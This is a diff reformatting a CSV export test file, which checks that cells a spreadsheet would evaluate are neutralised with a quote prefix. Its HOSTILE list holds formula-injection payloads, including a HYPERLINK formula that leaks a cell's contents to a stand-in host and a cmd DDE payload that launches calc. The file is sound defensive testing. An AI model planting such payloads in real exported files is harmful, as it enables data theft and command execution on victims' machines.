@@ -3,7 +3,20 @@ import { csvCell, toCsv } from "../src/csv.ts";
 import { parseCsvLine } from "../src/eval/csv.ts";
 
 /** What a spreadsheet would evaluate if it came first in a cell (OWASP, ASVS 1.2.10, full-width forms). */
-const HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\tTAB=1", "\r=1", "\n=1", "\0=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"];
+const HOSTILE = [
+  '=HYPERLINK("http://x.example/?"&A1,"open")',
+  "+1+2",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1,2)",
+  "\tTAB=1",
+  "\r=1",
+  "\n=1",
+  "\0=1",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+];
 
 describe("CSV export", () => {
   it("prefixes every text cell a spreadsheet would evaluate with a quote, inside a quoted cell", () => {
@@ -14,9 +27,16 @@ describe("CSV export", () => {
   });
 
   it("keeps numbers, negative ones included, as numbers and quotes ordinary text", () => {
-    expect(toCsv(["user_id", "amount", "score", "blocked"], [["+237670000001", -1500.5, -3, true], ["user_1", 2000, 0, false], [null, undefined, 1e21, null]])).toBe(
-      ['"user_id","amount","score","blocked"', `"'+237670000001",-1500.5,-3,true`, '"user_1",2000,0,false', ",,1e+21,"].join("\r\n"),
-    );
+    expect(
+      toCsv(
+        ["user_id", "amount", "score", "blocked"],
+        [
+          ["+237670000001", -1500.5, -3, true],
+          ["user_1", 2000, 0, false],
+          [null, undefined, 1e21, null],
+        ],
+      ),
+    ).toBe(['"user_id","amount","score","blocked"', `"'+237670000001",-1500.5,-3,true`, '"user_1",2000,0,false', ",,1e+21,"].join("\r\n"));
   });
 
   it("treats a number written as text like any text: it cannot be told from a formula by its column", () => {
